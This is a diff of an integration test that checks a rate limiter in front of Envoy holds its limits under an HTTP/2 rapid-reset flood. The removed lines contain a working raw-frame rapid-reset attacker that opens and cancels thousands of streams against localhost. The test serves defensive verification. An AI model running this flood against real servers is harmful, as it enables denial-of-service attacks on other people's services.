@@ -6,19 +6,29 @@
  * streams at Envoy, over tens of connections, on a route with its own `rate_limits` (cluster `attack`); then 30
  * requests on a route limited to 10 per minute (cluster `app`) must see exactly 10 admitted, and Envoy counts
  * no rate-limit error and no fail-open on that route. On memory and Redis; on both transports (vitest.config.ts
- * TRANSPORT_TESTS).
+ * TRANSPORT_TESTS). The attacker runs in a process of its own (support/rapid-reset-attack.ts).
+ *
+ * Before (a reset budget per client address): Envoy's address ran dry, Envoy was refused, and 30 of 30 were
+ * admitted (Envoy: ratelimit.error +30, failure_mode_allowed +30). During the attack itself Envoy may close its
+ * connection to the service (`http2.outbound_control_flood`: more than 1,000 of its cancels queued) and let the
+ * attack's own requests through; that is Envoy's, shows behind envoyproxy/ratelimit the same way, and is logged,
+ * not asserted.
  */
-import * as http2 from 'node:http2';
-import * as net from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { rlsBootstrap } from '../support/envoy-bootstrap.js';
 import { envoyRlsCounts, startEnvoyStack, warmUp, type Backend, type EnvoyStack } from '../support/envoy-stack.js';
 import { describeEnvoy } from '../support/envoy.js';
 import { eventually } from '../support/eventually.js';
+import { rapidResetAttack } from '../support/rapid-reset-attack.js';
 import { scrapeMetrics } from '../support/scrape.js';
 
 const RULES = { 'rr.yaml': 'domain: rr\ndescriptors:\n  - key: generic_key\n    value: limited\n    rate_limit: {unit: minute, requests_per_unit: 10}\n' };
-const ATTACK = { connections: 20, streams: 4000, maxMs: 2500 };
+const ATTACK = { path: '/attack', connections: 20, streams: 4000, maxMs: 2000, batch: 10 };
+/**
+ * A reset budget small enough that this short attack spends it on Envoy's connection (the defaults, 1,000 and
+ * 100 per second, are spent the same way by a longer attack): the guard acts on Envoy's own connection.
+ */
+const SETTINGS = { grpcResetBurst: 200, grpcResetRatePerS: 10 };
 
 type Cluster = Record<string, unknown> & { name: string; load_assignment: { cluster_name: string } };
 
@@ -42,69 +52,6 @@ function config(peers: Parameters<Parameters<typeof startEnvoyStack>[0]['config'
   return doc;
 }
 
-/** One HTTP/2 frame: 9-byte header and payload. */
-function h2Frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head.writeUInt8(type, 3);
-  head.writeUInt8(flags, 4);
-  head.writeUInt32BE(streamId, 5);
-  return Buffer.concat([head, payload]);
-}
-
-/** HPACK: GET, http, :authority and :path as literals without indexing (names from the static table). */
-const REQUEST_BLOCK = Buffer.concat([Buffer.from([0x82, 0x86]), Buffer.from([0x01, 9]), Buffer.from('localhost'), Buffer.from([0x04, 7]), Buffer.from('/attack')]);
-const CANCEL = Buffer.from([0, 0, 0, http2.constants.NGHTTP2_CANCEL]);
-
-/**
- * Opens and resets streams at Envoy, written as raw frames (HEADERS with END_STREAM, then RST_STREAM CANCEL at
- * once) so that the attacker costs next to nothing, over `connections` connections until `streams` were sent or
- * `maxMs` passed; a connection Envoy closes is replaced. The streams sent.
- */
-async function rapidReset(port: number, o: typeof ATTACK): Promise<number> {
-  let sent = 0;
-  let opened = 0;
-  const started = performance.now();
-  const more = () => sent < o.streams && performance.now() - started < o.maxMs;
-  const worker = async () => {
-    while (more()) {
-      const socket = net.connect(port, '127.0.0.1');
-      opened++;
-      socket.on('error', () => undefined);
-      let acked = false;
-      socket.on('data', () => {
-        if (acked) return;
-        acked = true;
-        socket.write(h2Frame(4, 1, 0, Buffer.alloc(0))); // SETTINGS ACK of Envoy's SETTINGS
-      });
-      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
-      await new Promise<void>((resolve) => {
-        socket.once('connect', () => resolve());
-        socket.once('close', () => resolve());
-      });
-      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), h2Frame(4, 0, 0, Buffer.alloc(0))]));
-      let id = 1;
-      while (more() && !socket.destroyed && id < 2 ** 30) {
-        // The HEADERS first, the resets a moment later: Envoy has started the rate-limit calls it then cancels.
-        const headers: Buffer[] = [];
-        const resets: Buffer[] = [];
-        for (let i = 0; i < 50 && more(); i++, sent++, id += 2) {
-          headers.push(h2Frame(1, 0x5, id, REQUEST_BLOCK));
-          resets.push(h2Frame(3, 0, id, CANCEL));
-        }
-        socket.write(Buffer.concat(headers));
-        await new Promise((resolve) => setTimeout(resolve, 1));
-        socket.write(Buffer.concat(resets));
-      }
-      socket.destroy();
-      await closed;
-    }
-  };
-  await Promise.all(Array.from({ length: o.connections }, worker));
-  console.log(`attack: ${sent} streams over ${opened} connections in ${(performance.now() - started).toFixed(0)} ms`);
-  return sent;
-}
-
 async function get(url: string): Promise<number> {
   const res = await fetch(url);
   await res.arrayBuffer();
@@ -115,7 +62,7 @@ describeEnvoy('rapid reset at Envoy', () => {
   describe.each<Backend>(['memory', 'redis'])('on %s', (backend) => {
     let stack: EnvoyStack;
     beforeAll(async () => {
-      stack = await startEnvoyStack({ backend, rules: RULES, config });
+      stack = await startEnvoyStack({ backend, rules: RULES, config, settings: SETTINGS });
       await warmUp(stack, 'attack', () => fetch(`${stack.url}/attack`));
     });
     afterAll(async () => {
@@ -123,7 +70,7 @@ describeEnvoy('rapid reset at Envoy', () => {
     });
 
     it('keeps the limit: 10 of 30 admitted after a few thousand streams reset at Envoy, no error, no fail-open', async () => {
-      const sent = await rapidReset(Number(new URL(stack.url).port), ATTACK);
+      const { sent, opened, ms } = await rapidResetAttack({ port: Number(new URL(stack.url).port), ...ATTACK });
       // The calls Envoy started for the attack have ended (answered or cancelled) before the legitimate requests.
       await eventually(async () => (await stack.envoy.stat('cluster.ratelimit.upstream_rq_active')) === 0 && (await stack.envoy.stat('cluster.ratelimit.upstream_rq_pending_active')) === 0, { timeoutMs: 15_000, what: "Envoy's rate-limit calls ended" });
       const cancelled = await stack.envoy.stat('cluster.ratelimit.upstream_rq_tx_reset');
@@ -135,7 +82,7 @@ describeEnvoy('rapid reset at Envoy', () => {
       const attack = await envoyRlsCounts(stack.envoy, 'attack');
       const guard = [...(await scrapeMetrics(stack.service.httpBase.replace('http://', '')))].filter(([k, v]) => k.startsWith('ratelimit_grpc_guard_total') && v > 0);
       console.log(
-        `rapid reset at Envoy (${backend}, ${process.env['GRPC_TRANSPORT'] ?? 'lean'}): ${sent} streams reset, Envoy reset ${cancelled} rate-limit calls (outbound_control_flood ${flood}); ` +
+        `rapid reset at Envoy (${backend}, ${process.env['GRPC_TRANSPORT'] ?? 'lean'}): ${sent} streams reset over ${opened} connections in ${ms} ms, Envoy reset ${cancelled} rate-limit calls (outbound_control_flood ${flood}); ` +
           `then ${admitted} of 30 admitted; /limited ${JSON.stringify(app)}; /attack ${JSON.stringify(attack)}; guard ${JSON.stringify(guard)}`,
       );
       expect(sent).toBeGreaterThanOrEqual(1000);
